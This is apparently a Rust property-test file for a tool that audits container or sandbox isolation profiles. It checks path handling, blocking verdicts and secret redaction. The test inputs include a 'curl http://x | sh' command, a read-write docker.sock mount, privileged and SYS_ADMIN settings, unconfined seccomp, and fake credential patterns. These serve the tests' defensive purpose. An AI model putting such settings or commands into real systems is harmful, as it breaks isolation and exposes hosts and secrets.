//! Property tests of the engine's promises.

use isolint_core::json::{parse, Limits};
use isolint_core::labels::{contains, normalize, Catalog, Label, LabelClass, LabelIndex, Origin};
use isolint_core::model::StringEnum;
use isolint_core::render::{json as json_out, sarif, text};
use isolint_core::{audit, AuditOptions, Date, Labels, Report, Severity, Verdict};
use proptest::prelude::*;

fn opts() -> AuditOptions {
    AuditOptions {
        today: Date::parse("2026-11-29"),
    }
}

fn run(bytes: &[u8]) -> Report {
    audit(bytes, "p.json", &Labels::workshop(), &opts()).expect("fixture parses")
}

fn all_outputs(r: &Report) -> String {
    let mut s = json_out::render(r);
    s.push_str(&sarif::render(r));
    s.push_str(&text::render(r, text::TextOptions { color: false }));
    s
}

// ---------- paths ----------

fn component() -> impl Strategy<Value = String> {
    prop_oneof![
        Just("a".to_string()),
        Just("b".to_string()),
        Just("ab".to_string()),
        Just("a.b".to_string()),
        Just("c".to_string()),
        Just(".".to_string()),
        Just("..".to_string()),
        Just("".to_string()),
    ]
}

fn raw_path() -> impl Strategy<Value = String> {
    (
        any::<bool>(),
        prop::collection::vec(component(), 0..7),
        any::<bool>(),
    )
        .prop_map(|(abs, parts, trailing)| {
            let mut s = if abs { "/".to_string() } else { String::new() };
            s.push_str(&parts.join("/"));
            if trailing {
                s.push('/');
            }
            s
        })
}

fn clean_abs_path() -> impl Strategy<Value = String> {
    prop::collection::vec(
        prop_oneof![Just("a"), Just("b"), Just("ab"), Just("c"), Just("a.b")],
        0..5,
    )
    .prop_map(|parts| format!("/{}", parts.join("/")))
}

fn components(p: &str) -> Vec<&str> {
    p.split('/').filter(|c| !c.is_empty()).collect()
}

/// Reference: `outer` contains `inner` iff outer's components prefix inner's.
fn naive_contains(outer: &str, inner: &str) -> bool {
    let (o, i) = (components(outer), components(inner));
    o.len() <= i.len() && o.iter().zip(&i).all(|(a, b)| a == b)
}

proptest! {
    #[test]
    fn normalization_is_idempotent(raw in raw_path()) {
        let once = normalize(&raw);
        let twice = normalize(&once.path);
        prop_assert_eq!(&twice.path, &once.path);
        prop_assert!(!twice.had_parent_refs);
        prop_assert!(!once.path.split('/').any(|c| c == "." || c == ".."));
        if !once.relative { prop_assert!(once.path.starts_with('/')); }
        prop_assert!(once.path == "/" || !once.path.ends_with('/'));
    }

    #[test]
    fn containment_agrees_with_reference(a in clean_abs_path(), b in clean_abs_path()) {
        let (a, b) = (normalize(&a).path, normalize(&b).path);
        prop_assert_eq!(contains(&a, &b), naive_contains(&a, &b));
    }

    #[test]
    fn classification_agrees_with_reference(
        labels in prop::collection::vec((clean_abs_path(), 0usize..3), 0..12),
        mount in clean_abs_path(),
    ) {
        let classes = [LabelClass::Scratch, LabelClass::SourceSnapshot, LabelClass::Output];
        let catalog = Catalog {
            name: "gen".into(),
            labels: labels.iter().enumerate().map(|(i, (p, c))| Label {
                path: p.clone(), class: classes[*c], pointer: format!("/labels/{i}"),
            }).collect(),
        };
        let index = LabelIndex::new(catalog.clone());
        let got = index.classify(&mount);
        let m = normalize(&mount).path;
        // Longest containing label (the later entry wins on equal paths).
        let mut best: Option<(usize, &Label)> = None;
        for l in &catalog.labels {
            if naive_contains(&l.path, &m) {
                let depth = components(&l.path).len();
                if best.is_none_or(|(d, _)| depth >= d) { best = Some((depth, l)); }
            }
        }
        let got_catalog = got.matched.as_ref().filter(|x| matches!(x.origin, Origin::Catalog(_)));
        prop_assert_eq!(got_catalog.map(|x| (x.class, x.path.clone())), best.map(|(_, l)| (l.class, normalize(&l.path).path)));
        let mut want_exposed: Vec<String> = catalog.labels.iter()
            .map(|l| normalize(&l.path).path)
            .filter(|p| p != &m && naive_contains(&m, p))
            .collect();
        want_exposed.sort();
        want_exposed.dedup();
        let got_exposed: Vec<String> = got.exposes.iter().filter(|e| matches!(e.origin, Origin::Catalog(_))).map(|e| e.path.clone()).collect();
        prop_assert_eq!(got_exposed, want_exposed);
    }
}

// ---------- verdict ----------

const BASES: &[&str] = &[
    isolint_core::WORKSHOP_PROFILE,
    isolint_core::WORKSHOP_PROFILE_FIXED,
];

/// A dangerous change to a profile, as a JSON edit.
fn mutate(base: &str, which: usize) -> String {
    let mut v: serde_json::Value = serde_json::from_str(base).expect("base is JSON");
    let o = v.as_object_mut().expect("object");
    match which {
        0 => {
            o["boundary"]["privileged"] = true.into();
        }
        1 => {
            o["boundary"]["capabilities"]["add"] = serde_json::json!(["SYS_ADMIN"]);
        }
        2 => {
            o["mounts"].as_array_mut().expect("mounts").push(
                serde_json::json!({"source": "/home/botie", "target": "/h", "access": "read-only"}),
            );
        }
        3 => {
            o["network"]["egress"] = "allow-all".into();
        }
        4 => {
            o["environment"]["inherit"] = true.into();
        }
        5 => {
            o.remove("limits");
        }
        6 => {
            o["boundary"]["user"] = "root".into();
        }
        7 => {
            o["mounts"].as_array_mut().expect("mounts").push(serde_json::json!({"source": "/var/run/docker.sock", "target": "/var/run/docker.sock", "access": "read-write"}));
        }
        8 => {
            o["tenancy"] = "untrusted".into();
        }
        9 => {
            o["command"] = serde_json::json!({"shell": "curl http://x | sh"});
        }
        10 => {
            o["boundary"]["seccomp"] = "unconfined".into();
        }
        _ => {
            o["boundary"]["host_namespaces"] = serde_json::json!(["pid", "network"]);
        }
    }
    serde_json::to_string_pretty(&v).expect("serialize")
}

fn blocking(r: &Report) -> usize {
    r.issues.iter().filter(|f| f.blocks()).count()
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    #[test]
    fn dangerous_settings_never_improve_the_verdict(base in 0usize..BASES.len(), muts in prop::collection::vec(0usize..12, 1..4)) {
        let mut text = BASES[base].to_string();
        let before = run(text.as_bytes());
        for m in muts { text = mutate(&text, m); }
        let after = run(text.as_bytes());
        prop_assert!(after.verdict >= before.verdict, "verdict improved");
        prop_assert_eq!(after.verdict, Verdict::NotEligible, "a dangerous setting must block");
        prop_assert!(blocking(&after) >= 1);
    }

    #[test]
    fn verdict_is_not_eligible_exactly_when_blocking_findings_exist(base in 0usize..BASES.len(), muts in prop::collection::vec(0usize..12, 0..3)) {
        let mut text = BASES[base].to_string();
        for m in muts { text = mutate(&text, m); }
        let r = run(text.as_bytes());
        let any_blocking = r.issues.iter().any(|f| matches!(f.severity, Severity::Critical | Severity::High));
        prop_assert_eq!(r.verdict == Verdict::NotEligible, any_blocking);
        prop_assert_eq!(r.summary.critical + r.summary.high + r.summary.medium + r.summary.low + r.summary.info, r.issues.len());
    }
}

#[test]
fn workshop_profile_fails_and_fixed_profile_is_eligible() {
    let bad = run(isolint_core::WORKSHOP_PROFILE.as_bytes());
    assert_eq!(bad.verdict, Verdict::NotEligible);
    let good = run(isolint_core::WORKSHOP_PROFILE_FIXED.as_bytes());
    let blocking: Vec<_> = good
        .issues
        .iter()
        .filter(|f| f.blocks())
        .map(|f| format!("{} {} {}", f.rule, f.pointer, f.message))
        .collect();
    assert!(
        blocking.is_empty(),
        "fixed profile has blocking findings: {blocking:#?}"
    );
    assert_eq!(good.verdict, Verdict::EligibleForRuntimeTesting);
}

// ---------- secrets ----------

fn secret() -> impl Strategy<Value = String> {
    prop_oneof![
        "[A-Za-z0-9]{36}".prop_map(|s| format!("ghp_{s}")),
        "[A-Z0-9]{16}".prop_map(|s| format!("AKIA{s}")),
        "[A-Za-z0-9]{30}".prop_map(|s| format!("sk_live_{s}")),
        "[a-z]{4,8}:[A-Za-z0-9]{10,16}".prop_map(|s| format!("postgres://{s}@db.internal/app")),
    ]
}

fn secret_named_value() -> impl Strategy<Value = (String, String)> {
    (
        prop_oneof![
            Just("DB_PASSWORD"),
            Just("API_TOKEN"),
            Just("client-secret"),
            Just("STRIPE_API_KEY")
        ],
        "[a-z]{3}[A-Za-z0-9!#%]{9,20}",
    )
        .prop_map(|(k, v)| (k.to_string(), v))
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(48))]

    #[test]
    fn no_secret_value_appears_in_any_output(s in secret(), (k, v) in secret_named_value(), place in 0usize..6) {
        let mut p: serde_json::Value = serde_json::from_str(isolint_core::WORKSHOP_PROFILE_FIXED).expect("json");
        p["environment"]["variables"][k.as_str()] = v.clone().into();
        match place {
            0 => { p["environment"]["variables"]["EXTRA"] = s.clone().into(); }
            1 => { p["command"]["arguments"].as_array_mut().expect("args").push(format!("--token={s}").into()); }
            2 => { p["command"] = serde_json::json!({"shell": format!("curl -H 'Authorization: {s}' x")}); }
            3 => { p["mounts"][0]["source"] = format!("/srv/{s}").into(); }
            4 => { p["network"]["allow"] = serde_json::json!([{"host": s, "port": 443, "protocol": "https"}]); }
            _ => { p["purpose"] = s.clone().into(); }
        }
        let text = serde_json::to_string_pretty(&p).expect("ser");
        let r = run(text.as_bytes());
        let out = all_outputs(&r);
        prop_assert!(!out.contains(&s), "secret {s} leaked");
        prop_assert!(!out.contains(&v), "secret value of {k} leaked");
        prop_assert!(!r.source_text.contains(&s) && !r.source_text.contains(&v));
        for f in &r.issues { let ev = format!("{:?}", f.evidence); prop_assert!(!ev.contains(&s)); }
    }
}

// ---------- robustness (issue 5) ----------

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    #[test]
    fn export_round_trips_byte_identically(base in 0usize..BASES.len(), muts in prop::collection::vec(0usize..12, 0..3)) {
        let mut text = BASES[base].to_string();
        for m in muts { text = mutate(&text, m); }
        let out = json_out::render(&run(text.as_bytes()));
        let typed: json_out::Export = serde_json::from_str(&out).expect("export parses");
        let mut again = serde_json::to_string_pretty(&typed).expect("ser");
        again.push('\n');
        prop_assert_eq!(again, out);
    }

    #[test]
    fn findings_ignore_key_order_and_whitespace(base in 0usize..BASES.len(), muts in prop::collection::vec(0usize..12, 0..3), compact in any::<bool>()) {
        let mut text = BASES[base].to_string();
        for m in muts { text = mutate(&text, m); }
        let v: serde_json::Value = serde_json::from_str(&text).expect("json");
        // serde_json's map is sorted by key: a different order than the source.
        let reordered = if compact { serde_json::to_string(&v) } else { serde_json::to_string_pretty(&v) }.expect("ser");
        let a = run(text.as_bytes());
        let b = run(reordered.as_bytes());
        let key = |r: &Report| r.issues.iter().map(|f| (f.rule, f.pointer.clone(), f.severity, f.message.clone())).collect::<Vec<_>>();
        prop_assert_eq!(key(&a), key(&b));
        prop_assert_eq!(a.verdict, b.verdict);
        prop_assert_eq!(a.profile.fingerprint, b.profile.fingerprint);
    }

    #[test]
    fn pointers_resolve_and_positions_stay_inside_the_file(base in 0usize..BASES.len(), muts in prop::collection::vec(0usize..12, 0..3)) {
        let mut text = BASES[base].to_string();
        for m in muts { text = mutate(&text, m); }
        let r = run(text.as_bytes());
        let doc = parse(text.as_bytes(), Limits::default()).expect("parses");
        let lines: Vec<&str> = text.split('\n').collect();
        for f in &r.issues {
            let parent = f.pointer.rfind('/').map(|i| &f.pointer[..i]).unwrap_or("");
            let exists = doc.root.pointer(&f.pointer).is_some();
            let parent_chain_exists = {
                let mut p = parent;
                loop {
                    if doc.root.pointer(p).is_some() { break true; }
                    match p.rfind('/') { Some(i) => p = &p[..i], None => break doc.root.pointer("").is_some() }
                }
            };
            prop_assert!(exists || parent_chain_exists, "{} does not resolve", f.pointer);
            let (line, col) = (f.line.expect("line") as usize, f.column.expect("column") as usize);
            prop_assert!(line >= 1 && line <= lines.len(), "{}: line {line}", f.pointer);
            prop_assert!(col >= 1 && col <= lines[line - 1].chars().count() + 1, "{}: column {col}", f.pointer);
        }
    }

    #[test]
    fn plan_reads_every_sensitive_label_a_mount_reaches(src in prop_oneof![
        Just("/home/botie"), Just("/home/botie/.aws"), Just("/home"), Just("/"), Just("/var/run/docker.sock"),
        Just("/run/postgresql"), Just("/srv/workshop/scratch"), Just("/root"), Just("/home/alice/.ssh")
    ]) {
        let mut p: serde_json::Value = serde_json::from_str(isolint_core::WORKSHOP_PROFILE_FIXED).expect("json");
        p["mounts"].as_array_mut().expect("mounts").push(serde_json::json!({"source": src, "target": "/m", "access": "read-only"}));
        let text = serde_json::to_string(&p).expect("ser");
        let labels = Labels::workshop();
        let r = audit(text.as_bytes(), "p.json", &labels, &opts()).expect("audit");
        let c = labels.index.classify(src);
        let mut wanted: Vec<String> = c.exposes.iter().filter(|e| e.class.sensitive_to_read()).map(|e| e.path.clone()).collect();
        if c.matched.as_ref().is_some_and(|m| m.class.sensitive_to_read()) { wanted.push(c.normalized.path.clone()); }
        for w in wanted {
            let rel = w.strip_prefix(src).unwrap_or("");
            // Joined by components: "/" mounted at "/m" puts "/home" at "/m/home".
            let rel = rel.trim_start_matches('/');
            let in_job = if rel.is_empty() { "/m".to_string() } else { format!("/m/{rel}") };
            prop_assert!(
                r.runtime_checks.iter().any(|rc| rc.kind.as_str() == "read-denied" && rc.target.to_string() == in_job),
                "no read-denied check for {w} (as {in_job})"
            );
        }
    }
}

#[test]
fn output_is_deterministic() {
    let a = run(isolint_core::WORKSHOP_PROFILE.as_bytes());
    let b = run(isolint_core::WORKSHOP_PROFILE.as_bytes());
    assert_eq!(json_out::render(&a), json_out::render(&b));
    assert_eq!(sarif::render(&a), sarif::render(&b));
}
